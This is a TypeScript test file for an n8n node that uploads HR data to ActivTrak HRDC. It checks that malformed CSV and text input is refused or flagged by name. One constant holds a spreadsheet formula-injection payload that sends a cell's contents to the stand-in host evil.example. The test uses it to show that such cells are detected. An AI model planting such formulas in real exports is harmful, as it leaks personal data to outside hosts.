/**
 * Messy input, as HR exports and self-service forms produce it, through the real engine: files
 * separated by semicolons or tabs, rows of only commas, UTF-16, broken quotes around personal
 * data, invisible and look-alike characters, text a spreadsheet would run as a formula, and
 * values of megabytes. Each gets its named refusal or warning, and nothing half-right is sent.
 */
import type { IDataObject } from 'n8n-workflow';

import { useEmulator } from '../support/emulatorSetup';
import { hrdcCsv } from '../support/snapshots';

describe('messy input', () => {
	const { emulator, run } = useEmulator('key', {
		users: [{ email: 'u0@x.com' }, { email: 'u1@x.com' }, { email: 'josé@x.com' }],
	});

	const csvFile = { source: 'csvFile' };
	const file = async (text: string | Buffer, parameters: IDataObject = {}) =>
		await run(
			[],
			{ ...csvFile, ...parameters },
			{
				files: [typeof text === 'string' ? Buffer.from(text, 'utf8') : text],
			},
		);

	describe('CSV files', () => {
		test.each<[string, string, string]>([
			[
				'separated by semicolons',
				'user_lookup_id;group\r\nu0@x.com;Sales\r\n',
				'The header row is separated by semicolons (;), not commas: the file does not look comma-separated',
			],
			[
				'separated by tabs',
				'user_lookup_id\tgroup\r\nu0@x.com\tSales\r\n',
				'The header row is separated by tabs, not commas: the file does not look comma-separated',
			],
			[
				'with a one-column header and semicolons below',
				'user_lookup_id\r\nu0@x.com\r\nu1@x.com;Sales\r\n',
				'The header is one column, but row 3 is separated by semicolons (;): the file does not look comma-separated',
			],
		])('a file %s is refused, naming the separator', async (_name, text, message) => {
			const result = await file(text);
			expect(result.error?.message).toBe(message);
			expect(result.error?.description).toMatch(/CSV UTF-8 \(Comma delimited\)/);
			expect(emulator.requests).toHaveLength(0);
		});

		test('rows of only separators are skipped and counted; rows keep their numbers', async () => {
			const text =
				'user_lookup_id,group,track\r\nu0@x.com,Sales,\r\n,,\r\n\r\nu1@x.com,Sales,maybe\r\n,, \r\n,,\r\n';
			const failed = await file(text);
			// Row 5 as a spreadsheet shows it: the blank row and the row of commas count.
			expect(failed.error?.message).toMatch(/^Row 5, column track: "maybe" is not a track value/);

			const result = await file(text.replace('maybe', 'yes'));
			expect(result.error).toBeUndefined();
			expect(emulator.uploads[0].csv).toBe(
				hrdcCsv(
					{ user_lookup_id: 'u0@x.com', group: 'Sales' },
					{ user_lookup_id: 'u1@x.com', group: 'Sales' },
				),
			);
			expect(result.output('ActivTrak HRDC')[0].json.warnings).toContain(
				'3 empty rows (only separators) were skipped in the file.',
			);
		});

		test.each<[string, Buffer, string]>([
			[
				'UTF-16 little-endian without a byte order mark',
				Buffer.from('user_lookup_id\r\nu0@x.com\r\n', 'utf16le'),
				'UTF-16 (little-endian) without a byte order mark',
			],
			[
				'UTF-16 big-endian without a byte order mark',
				Buffer.from('user_lookup_id\r\nu0@x.com\r\n', 'utf16le').swap16(),
				'UTF-16 (big-endian) without a byte order mark',
			],
			[
				'UTF-16 with a byte order mark',
				Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('user_lookup_id\r\n', 'utf16le')]),
				'UTF-16 (little-endian, with a byte order mark)',
			],
		])('%s is named as such', async (_name, bytes, encoding) => {
			const result = await file(bytes);
			expect(result.error?.message).toBe(`The file in "data" is ${encoding}`);
			expect(result.error?.description).toMatch(/CSV UTF-8/);
			expect(emulator.requests).toHaveLength(0);
		});

		test.each<[string, string, string]>([
			[
				'a quote inside a field',
				'user_lookup_id,display_name\r\nu0@x.com,Zoë "Secret" Müller\r\n',
				'The file is not a readable CSV: a quote in the middle of a field in row 2, field 2',
			],
			[
				'a quote never closed',
				'user_lookup_id,display_name\r\nu0@x.com,"Zoë Secret Müller\r\n',
				'The file is not a readable CSV: a quote that is never closed in row 2, field 2',
			],
			[
				'a row with too many fields',
				'user_lookup_id,display_name\r\nu0@x.com,Zoë,Secret Müller\r\n',
				'Row 2 has 3 fields, but the header has 2',
			],
		])('%s names the line and field, not the content', async (_name, text, message) => {
			const result = await file(text);
			expect(result.error?.message).toBe(message);
			expect(JSON.stringify(result.error)).not.toMatch(/Secret|Zoë/);
			expect(emulator.requests).toHaveLength(0);
		});
	});

	describe('text', () => {
		test('a zero width space in a lookup id is refused, naming the item and the column', async () => {
			const result = await run([
				{ user_lookup_id: 'u0@x.com' },
				{ user_lookup_id: 'u1\u200b@x.com' },
			]);
			expect(result.error?.message).toMatch(
				/^Item 1, column user_lookup_id: holds the invisible format character U\+200B \(zero width space\) at position 3/,
			);
			expect(emulator.requests).toHaveLength(0);
		});

		test('composed and decomposed spellings of josé are one user, sent composed', async () => {
			const result = await run([
				{ user_lookup_id: 'jos\u00e9@x.com', group: 'Caf\u00e9' },
				{ user_lookup_id: 'jose\u0301@x.com', group: 'Cafe\u0301' },
			]);
			expect(result.error).toBeUndefined();
			expect(emulator.uploads[0].csv).toBe(
				hrdcCsv({ user_lookup_id: 'jos\u00e9@x.com', group: 'Caf\u00e9' }),
			);
		});

		const FORMULA = '=HYPERLINK("http://evil.example/?d="&A3,"Click me")';

		test('a cell a spreadsheet would run as a formula is named in the preview and the upload', async () => {
			const items = [
				{ user_lookup_id: 'u0@x.com', display_name: FORMULA },
				{ user_lookup_id: 'u1@x.com', group: '+Sales' },
			];
			const preview = await run(items, { operation: 'preview' });
			const upload = await run(items);
			for (const result of [preview, upload]) {
				const warnings = result.output('ActivTrak HRDC')[0].json.warnings as string[];
				expect(warnings).toEqual(
					expect.arrayContaining([
						expect.stringMatching(
							/^Item 0, column display_name: starts with "=", so a spreadsheet opening this CSV/,
						),
						expect.stringMatching(/^Item 1, column group: starts with "\+"/),
					]),
				);
			}
			expect(emulator.uploads).toHaveLength(1);
		});

		test("the preview's warnings show HR names escaped, and look-alike groups whole", async () => {
			// 64 characters each, differing only in the case of the last one: a cut would hide it.
			const long = `${'x'.repeat(63)}a`;
			const items = [
				{ user_lookup_id: 'u0@x.com', display_name: 'Ann "A" Lee', group: long },
				{ user_lookup_id: 'u1@x.com', display_name: 'Ann "A" Lee', group: long.toUpperCase() },
			];
			const preview = await run(items, { operation: 'preview' });
			const warnings = preview.output('ActivTrak HRDC')[0].json.warnings as string[];
			expect(warnings).toEqual(
				expect.arrayContaining([
					expect.stringMatching(/^The display name "Ann \\"A\\" Lee" is given to 2 users/),
					expect.stringContaining(
						`The groups ${JSON.stringify(long)}, ${JSON.stringify(long.toUpperCase())} differ only in case`,
					),
				]),
			);
			expect(emulator.requests).toHaveLength(0);
		});

		test("'Refuse Formula-Like Cells' makes such a cell a stop", async () => {
			const result = await run([{ user_lookup_id: 'u0@x.com', display_name: FORMULA }], {
				options: { refuseFormulaCells: true },
			});
			expect(result.error?.message).toMatch(
				/^Item 0, column display_name: starts with "=", so a spreadsheet opening the CSV would run it as a formula/,
			);
			expect(emulator.requests).toHaveLength(0);
		});

		test('a 10 MB value skipped as invalid appears in the output only as an excerpt', async () => {
			const result = await run(
				[
					{ user_lookup_id: 'u0@x.com' },
					{ user_lookup_id: 'u1@x.com', display_name: 'y'.repeat(10_000_000) },
				],
				{ options: { skipInvalid: true } },
			);
			expect(result.error).toBeUndefined();
			const output = result.output('ActivTrak HRDC')[0].json;
			expect(output.skippedItems).toEqual([
				expect.objectContaining({
					column: 'display_name',
					value: `${'y'.repeat(77)}...`,
					message: 'is 10000000 characters long; the limit is 256',
				}),
			]);
			expect(JSON.stringify(output).length).toBeLessThan(10_000);
		});
	});
});
